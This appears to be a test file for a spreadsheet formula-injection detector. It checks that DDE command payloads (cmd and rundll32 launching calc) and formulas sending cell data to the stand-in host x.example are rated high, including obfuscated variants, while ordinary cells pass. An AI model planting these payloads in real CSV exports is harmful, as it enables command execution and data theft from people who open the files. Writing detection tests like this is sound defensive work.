import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { scanned, severityOf } from '../scanned-in-tests.ts'
import { judgeCell } from './formula.ts'

const dangerous = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  " \t=cmd|'/C calc'!A1",
  '\ufeff=HYPERLINK("http://x.example/?"&A1,"x")',
  '＝ＨＹＰＥＲＬＩＮＫ("http://x.example")',
  '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
  '=WEBSERVICE("http://x.example/"&A1)',
  '+IMPORTDATA("http://x.example")',
  '=IFERROR(IMAGE("http://x.example/"&A1),"")',
  "text;=cmd|' /C calc'!A0",
  "text\n=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''A1",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
]
for (const cell of dangerous)
  test(`a cell that reaches out of the sheet is found: ${JSON.stringify(cell).slice(0, 50)}`, () => {
    assert.equal(judgeCell(cell)?.severity, 'high')
    assert.equal(severityOf(scanned('d.csv', `a,b\n1,"${cell.replaceAll('"', '""')}"\n`)), 'high')
  })

const honest = [
  '-3.5',
  '+4',
  '-1e-3',
  '@home team',
  '@user',
  '+49 (30) 123-456',
  '-',
  '--',
  '- a list',
  '=)',
  '== equal ==',
  '+1 for this!',
  '-$1,200.50',
  "O'Neil, Jr.",
  '-5 °C',
  '=> see below',
  '-foo(bar)',
  '@param x the value',
  '1-2',
  '',
  '+',
  '-inf',
  '-12.5%',
]
for (const cell of honest)
  test(`an honest cell passes: ${JSON.stringify(cell)}`, () => {
    assert.ok(!['medium', 'high', 'critical'].includes(judgeCell(cell)?.severity ?? ''))
  })

test('a number is never a formula', () => {
  fc.assert(
    fc.property(
      fc.double({ noNaN: true }),
      (value) => judgeCell(String(value)) === undefined || !Number.isFinite(value),
    ),
  )
})

test('cells are found wherever the reader of tables would find them', () => {
  const formula = "=cmd|' /C calc'!A0"
  for (const table of [
    `a;b\n1;${formula}\n`,
    `a\tb\n1\t${formula}\n`,
    `a,b\r1,${formula}\r`,
    `"x""y",${formula}`,
    `"x\ny","${formula}"`,
  ])
    assert.equal(severityOf(scanned('d.csv', table)), 'high', table)
})

test('a table with a null byte is not clean', () => {
  assert.notEqual(scanned('d.csv', 'a,b\n1,2\n\0\n').verdict, 'clean')
})
